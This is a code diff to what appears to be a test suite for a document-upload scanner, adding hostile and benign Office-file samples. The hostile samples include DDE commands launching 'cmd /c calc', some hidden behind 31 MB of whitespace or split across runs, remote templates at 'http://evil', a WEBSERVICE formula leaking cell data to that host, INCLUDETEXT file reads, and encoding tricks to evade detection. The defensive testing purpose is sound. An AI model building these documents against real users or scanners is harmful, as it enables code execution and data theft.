@@ -189,9 +189,71 @@ TEMPLATE = (
 IMAGE = TEMPLATE.replace(b"attachedTemplate", b"image").replace(b"x.dotm", b"x.png")
 OLE = TEMPLATE.replace(b"attachedTemplate", b"oleObject").replace(b"x.dotm", b"x.bin")
 FRAME = TEMPLATE.replace(b"attachedTemplate", b"frame").replace(b"x.dotm", b"x.htm")
+CHUNK = TEMPLATE.replace(b"attachedTemplate", b"aFChunk").replace(
+    b'http://evil/x.dotm" TargetMode="External', b"afchunk.dat"
+)
 LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
 ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "secret.txt">]><x>&e;</x>'
 OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
+
+
+def utf_16(part: bytes) -> bytes:
+    """The same XML in the other encoding that every XML parser must know."""
+    return part.decode().replace("UTF-8", "UTF-16").encode("utf-16")
+
+
+def in_utf_16(name: str, old: bytes, new: bytes, base: Callable[[], bytes] = word) -> bytes:
+    def change(parts: dict[str, bytes]) -> None:
+        assert old in parts[name]
+        parts[name] = utf_16(parts[name].replace(old, new))
+
+    return repacked(base(), change)
+
+
+def with_rel(rel: bytes) -> bytes:
+    return replaced(RELS, b"</Relationships>", rel + b"</Relationships>")
+
+
+def another_prefix(rel: bytes) -> bytes:
+    """The relationships under a prefix of their own, which Word reads all the same."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        text = parts[RELS].replace(b"</Relationships>", rel + b"</Relationships>")
+        text = text.replace(b"<Relationship", b"<r:Relationship")
+        text = text.replace(b"</Relationship", b"</r:Relationship").replace(b"xmlns=", b"xmlns:r=")
+        parts[RELS] = text
+
+    return repacked(word(), change)
+
+
+def field_of(*runs: str) -> bytes:
+    """A Word file with one field whose instruction is spread over runs; "{" and "}" nest."""
+    marks = {"{": "begin", "}": "end"}
+    told = "".join(
+        f'<w:r><w:fldChar w:fldCharType="{marks[run]}"/></w:r>'
+        if run in marks
+        else f"<w:r><w:instrText>{run}</w:instrText></w:r>"
+        for run in ("{", *runs, "}")
+    )
+    end = f"<w:p>{told}</w:p></w:body>".encode()
+    return replaced("word/document.xml", b"</w:body>", end)
+
+
+def linked_excel() -> bytes:
+    """A workbook whose formulas look into last year's (case 06)."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        parts["xl/externalLinks/externalLink1.xml"] = (
+            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
+        )
+        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
+            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+            b'relationships/externalLinkPath" Target="file:///C:/ds/danh-sach-2025.xlsx"'
+            b' TargetMode="External"/></Relationships>'
+        )
+
+    return repacked(excel(), change)
 
 
 def old(*streams: str) -> bytes:
@@ -325,6 +387,67 @@ def hostile() -> Iterator[Made]:
     yield "film", "a.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 200
     yield "webp of rubbish", "a.webp", b"RIFF\x20\0\0\0WEBPVP8 " + b"\0" * 100
     yield "sound called webp", "a.webp", b"RIFF\x20\0\0\0WAVEfmt " + b"\0" * 100
+    blanks = b"<w:p>" + b" " * 31_000_000
+    dde = b'<w:r><w:instrText> DDE "cmd" "/c calc"</w:instrText></w:r></w:p></w:body>'
+    yield (
+        "dde behind 31 MB of blanks",
+        "a.docx",
+        replaced("word/document.xml", b"</w:body>", blanks + dde),
+    )
+    yield "dde in utf-16", "a.docx", in_utf_16("word/document.xml", b"</w:body>", b"<w:p>" + dde)
+    yield (
+        "doctype in utf-16",
+        "a.docx",
+        in_utf_16("word/document.xml", b"<w:document", b"<!DOCTYPE x><w:document"),
+    )
+    end = b"</Relationships>"
+    yield "template in utf-16", "a.docx", in_utf_16(RELS, end, TEMPLATE + end)
+    yield "template under another prefix", "a.docx", another_prefix(TEMPLATE)
+    yield (
+        "template by a character reference",
+        "a.docx",
+        with_rel(TEMPLATE.replace(b'"External"', b'"&#69;xternal"')),
+    )
+    yield (
+        "template beside the word hyperlink",
+        "a.docx",
+        with_rel(TEMPLATE.replace(b"x.dotm", b"hyperlink/x.dotm?/hyperlink")),
+    )
+    yield (
+        "template that calls itself internal",
+        "a.docx",
+        with_rel(TEMPLATE.replace(b'TargetMode="External"', b'TargetMode="Internal"')),
+    )
+    yield "dde over two runs", "a.docx", field_of(" DD", 'E "cmd" "/c calc"')
+    yield "dde told by another field", "a.docx", field_of("{", " QUOTE 68 68 69 ", "}", ' "cmd"')
+    yield "file of the reader told in a field", "a.docx", field_of(' INCLUDETEXT "C:\\x.txt"')
+    yield (
+        "dde in a simple field",
+        "a.docx",
+        replaced(
+            "word/document.xml", b"</w:body>", b'<w:p><w:fldSimple w:instr="DDE a"/></w:p></w:body>'
+        ),
+    )
+    yield "dde in a formula", "a.xlsx", excel("=cmd|'/c calc'!A0")
+    yield "formula that asks the web", "a.xlsx", excel('=WEBSERVICE("http://evil/?"&A1)')
+    yield (
+        "old macro sheet",
+        "a.xlsx",
+        replaced(
+            "[Content_Types].xml",
+            b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
+            b"application/vnd.ms-excel.macrosheet+xml",
+            excel,
+        ),
+    )
+    yield "page of the web by relationship", "a.docx", with_rel(CHUNK)
+    yield "links into another workbook", "a.xlsx", linked_excel()
+    yield "a part that is no xml", "a.docx", with_part("word/footnotes.xml", b"<a><b></a>")
+    yield (
+        "an unknown encoding",
+        "a.docx",
+        with_part("word/x.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>'),
+    )
     yield "nothing at all", "a.jpg", b""
     yield "too large", "a.jpg", b"\xff\xd8\xff" + b"\0" * 26_000_000
 
@@ -349,6 +472,14 @@ def benign() -> Iterator[Made]:
     yield "long word", "phuong an.docx", word("Máy chẻ nan. " * 20_000)
     yield "word that names DDE", "hoa chat.docx", word("Hợp chất DDT và DDE trong đất")
     yield "excel with a formula", "du toan.xlsx", excel()
+    yield "word with a page number", "trang.docx", field_of(" PAGE ")
+    yield "word with a field in a field", "neu.docx", field_of(" IF ", "{", " PAGE ", "}", " = 1 x")
+    yield (
+        "word in utf-16",
+        "unicode.docx",
+        in_utf_16("word/document.xml", b"</w:body>", b"</w:body>"),
+    )
+    yield "excel that quotes a line", "du toan.xlsx", excel('=IF(A1>1,"a|b",0)')
     yield "old word", "cu.doc", old("WordDocument", "1Table")
     yield "old excel", "cu.xls", old("Workbook")
     yield "a photo in heic", "IMG_0001.HEIC", (SAMPLES / "quotation.heic").read_bytes()
